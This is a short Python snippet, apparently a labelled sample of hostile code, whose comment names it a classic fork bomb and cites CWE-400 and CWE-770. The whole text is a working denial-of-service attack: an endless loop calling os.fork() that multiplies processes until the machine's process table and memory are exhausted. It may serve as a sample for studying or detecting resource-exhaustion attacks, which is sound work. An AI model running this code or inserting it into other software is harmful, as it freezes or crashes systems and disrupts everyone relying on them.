# hostile: classic fork bomb (CWE-400, CWE-770)
import os

while True:
    os.fork()
